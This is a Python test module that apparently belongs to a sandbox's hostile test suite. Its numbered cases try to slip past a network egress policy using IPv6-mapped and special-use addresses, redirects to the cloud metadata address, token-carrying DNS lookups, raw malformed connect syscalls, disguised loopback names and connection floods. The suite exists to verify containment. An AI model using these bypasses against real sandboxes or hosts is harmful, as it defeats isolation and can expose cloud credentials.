"""More ways around the network policy: address forms, names, redirects, floods, and the trap itself."""

from __future__ import annotations

from tests.hostile.cases.case import FAILED, KILLED, UNHARMED, Chapter

case = Chapter("Further network", layer="egress broker")

FORMS = (
    "::ffff:7f00:1",
    "::127.0.0.1",
    "64:ff9b::7f00:1",
    "64:ff9b:1::7f00:1",
    "2002:7f00:1::",
    "2002:7f00:1::7f00:1",
    "2001:0:7f00:1:0:0:80ff:fffe",
    "::",
    "fe80::1",
    "fc00::1",
    "fd00:ec2::254",
    "ff02::1",
    "::ffff:169.254.169.254",
    "::ffff:0:127.0.0.1",
    "fec0::1",
    "100::1",
)
case(
    600,
    "IPv6 forms of private addresses",
    f"""
    got = []
    for address in {FORMS!r}:
        said = attempt(connect, address, v["tcp"], socket.AF_INET6)
        got.append(said if said.startswith("held") else f"LEAK {{address}}: {{said}}")
    return " ".join(got)
    """,
)
case(
    601,
    "IPv4 addresses for special uses",
    """
    got = []
    for address in ("0.1.2.3", "127.255.255.254", "169.254.1.1", "192.0.0.1", "192.0.2.1", "198.18.0.1", "198.51.100.1",
                    "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "100.100.100.200", "192.88.99.1"):
        said = attempt(connect, address, 80)
        got.append(said if said.startswith("held") else f"LEAK {address}: {said}")
    return " ".join(got)
    """,
)
case(
    602,
    "a redirect to the metadata address",
    """
    import requests
    try:
        got = requests.get(f"http://127.0.0.1:{v['allowed']}/to/169.254.169.254/latest", timeout=3)
        return f'LEAK: {got.text}'
    except requests.RequestException as error:
        return f'held: {error}'
    """,
)
case(
    603,
    "a redirect to another port",
    """
    import requests
    try:
        got = requests.get(f"http://127.0.0.1:{v['allowed']}/to/127.0.0.1:{v['tcp']}/x", timeout=3)
        return f'LEAK: {got.text}'
    except requests.RequestException as error:
        return f'held: {error}'
    """,
)
case(
    604,
    "the allowed name, another port",
    """
    socket.getaddrinfo('localhost', v['allowed'])
    return attempt(connect, 'localhost', v['tcp'])
    """,
)
case(
    605,
    "the allowed port, another address",
    "return attempt(connect, '127.0.0.2', v['allowed']) + ' ' + attempt(connect, '127.0.0.3', v['allowed'])",
)
case(
    606,
    "names resolved where no network is allowed",
    """
    began = time.monotonic()
    try:
        got = socket.getaddrinfo("secret-data." + v["token"] + ".example.com", 80)
        return f"LEAK: {got}"
    except OSError as error:
        return f"held: {error}" if time.monotonic() - began < 1 else f"LEAK: it took {time.monotonic() - began:.1f} s: {error}"
    """,
    policy={"network": "none", "allow": []},
)
case(
    607,
    "loopback where no network is allowed",
    "return attempt(connect, '127.0.0.1', v['allowed'])",
    policy={"network": "none", "allow": []},
)
case(
    608,
    "names through the system's own resolver",
    """
    class Info(ctypes.Structure):
        pass
    made = ctypes.c_void_p()
    ended = libc.getaddrinfo(b'secret.example.com', b'80', None, ctypes.byref(made))
    return f'held: {ended}' if ended else 'LEAK: resolved'
    """,
    policy={"network": "none", "allow": [], "time_limit": {"pipe": 30}},
)
case(
    609,
    "an allowed connection taken apart and aimed anew",
    """
    client = socket.socket()
    client.connect(("127.0.0.1", v["allowed"]))
    libc.connect(client.fileno(), struct.pack("=H14x", 0), 16)
    address = struct.pack("=HHI8x", socket.AF_INET, socket.htons(v["tcp"]), 0x0100007F)
    return attempt(syscall, v["nr"]["connect"], client.fileno(), address, 16, also=(errno.EISCONN,))
    """,
)
case(
    610,
    "an allowed connection made to listen",
    """
    client = socket.socket()
    client.connect(('127.0.0.1', v['allowed']))
    return attempt(client.listen, 1)
    """,
    layer="seccomp",
)
case(
    611,
    "urgent data and odd options on an allowed connection",
    """
    client = socket.socket()
    client.connect(('127.0.0.1', v['allowed']))
    for level, option in ((socket.IPPROTO_TCP, 31), (socket.IPPROTO_IP, 19), (socket.SOL_SOCKET, 25), (socket.SOL_SOCKET, 36), (socket.IPPROTO_IP, 4)):
        try:
            client.setsockopt(level, option, b'lo\\0\\0')
        except OSError:
            pass
    client.send(b'x', socket.MSG_OOB)
    return 'held'
    """,
    expect=UNHARMED,
)
case(
    612,
    "a thousand connects at once",
    """
    made = [socket.socket() for _ in range(100)]
    for _ in range(10):
        for client in made:
            client.setblocking(False)
            client.connect_ex(('127.0.0.1', v['tcp']))
    return 'held'
    """,
    expect=UNHARMED,
    policy={"time_limit": {"pipe": 8}},
    seconds=5,
)
case(
    613,
    "connect from a hundred threads, then death",
    """
    def reach():
        while True:
            socket.socket().connect_ex(('127.0.0.1', v['allowed']))
    for _ in range(40):
        threading.Thread(target=reach, daemon=True).start()
    time.sleep(0.5)
    os.kill(os.getpid(), 9)
    """,
    expect=(KILLED, FAILED),
)
case(
    614,
    "the descriptor closed while it connects",
    """
    import random
    stop = False
    def close():
        while not stop:
            for number in range(8, 40):
                try:
                    os.close(number) if number not in keep else None
                except OSError:
                    pass
    keep = set(range(3)) | set(sockets())
    for number in range(3, 60):
        try:
            os.fstat(number)
            keep.add(number)
        except OSError:
            pass
    threading.Thread(target=close, daemon=True).start()
    for _ in range(60):
        try:
            client = socket.socket()
            client.connect_ex(('127.0.0.1', v['allowed']))
            client.detach()
        except OSError:
            pass
    stop = True
    return 'held'
    """,
    expect=UNHARMED,
)
case(
    615,
    "names by the thousand",
    """
    for n in range(400):
        try:
            socket.getaddrinfo(f'{n}.localhost', 80)
        except OSError:
            pass
    return 'held'
    """,
    expect=UNHARMED,
    policy={"time_limit": {"pipe": 4}},
    seconds=4,
)
case(
    616,
    "a name that is an address in disguise",
    """
    got = []
    for name in ('0x7f000001', '017700000001', '127.1', '0', '127.0.0.1.', 'localhost.', 'LOCALHOST', '①②⑦.⓪.⓪.①', '127。0。0。1', 'ip6-localhost', '[::1]', '127.0.0.1%lo'):
        try:
            got.append(attempt(connect, name, v['tcp']))
        except (socket.gaierror, UnicodeError) as error:
            got.append(f'held: {error}')
    return ' '.join(got)
    """,
)
case(
    617,
    "scope ids and flow labels",
    """
    client = socket.socket(socket.AF_INET6)
    got = []
    for address in (('::1', v['tcp6'], 1, 0), ('::1', v['tcp6'], 0, 1), ('fe80::1', v['tcp6'], 0, 1), ('::ffff:127.0.0.1', v['tcp'], 0, 2)):
        got.append(attempt(client.connect, address))
    return ' '.join(got)
    """,
)
case(
    618,
    "an address cut short or too long",
    """
    client = socket.socket()
    address = struct.pack('=HHI8x', socket.AF_INET, socket.htons(v['tcp']), 0x0100007F)
    got = []
    for length in (0, 1, 2, 7, 8, 15, 128, 129, 4096, -1):
        buffer = ctypes.create_string_buffer(address.ljust(4096, b'x'), 4096)
        got.append(attempt(syscall, v['nr']['connect'], client.fileno(), buffer, length, also=(errno.EINVAL, errno.EFAULT)))
    return ' '.join(got)
    """,
)
case(
    619,
    "an IPv6 address on an IPv4 socket",
    """
    client = socket.socket()
    address = struct.pack('=HHI16sI', socket.AF_INET6, socket.htons(v['tcp6']), 0, socket.inet_pton(socket.AF_INET6, '::1'), 0)
    return attempt(syscall, v['nr']['connect'], client.fileno(), address, 28, also=(errno.EAFNOSUPPORT, errno.EINVAL))
    """,
)
case(
    620,
    "the trap asked for descriptors that are not there",
    """
    address = struct.pack('=HHI8x', socket.AF_INET, socket.htons(v['allowed']), 0x0100007F)
    got = [libc.connect(number, address, 16) for number in (-1, 255, 1000, 2**31 - 1, 0, 1, 2)]
    return f'held: {got}'
    """,
    expect=UNHARMED,
)
case(
    621,
    "an address at the end of a page",
    """
    room = mmap.mmap(-1, 8192)
    start = ctypes.addressof(ctypes.c_char.from_buffer(room))
    libc.mprotect(ctypes.c_void_p(start + 4096), 4096, 0)
    room[4088:4096] = struct.pack('=HHI', socket.AF_INET, socket.htons(v['tcp']), 0x0100007F)
    client = socket.socket()
    return attempt(syscall, v['nr']['connect'], client.fileno(), ctypes.c_void_p(start + 4088), 16, also=(errno.EFAULT, errno.EINVAL))
    """,
)
case(
    622,
    "aiohttp to loopback",
    """
    async def attack(v):
        import aiohttp
        try:
            async with aiohttp.ClientSession() as session, session.get(f"http://127.0.0.1:{v['tcp']}/", timeout=aiohttp.ClientTimeout(3)) as answer:
                return f'LEAK: {answer.status}'
        except Exception as error:
            return f'held: {error}'
    """,
    policy={"time_limit": {"pipe": 10}},
)
case(
    623,
    "a proxy in the environment",
    """
    os.environ['http_proxy'] = f"http://127.0.0.1:{v['tcp']}"
    import urllib.request
    try:
        return f"LEAK: {urllib.request.urlopen('http://example.com/', timeout=3).read(10)}"
    except OSError as error:
        return f'held: {error}'
    """,
)
case(624, "the server's own API from inside", "return attempt(connect, '127.0.0.1', v['server_port'])")
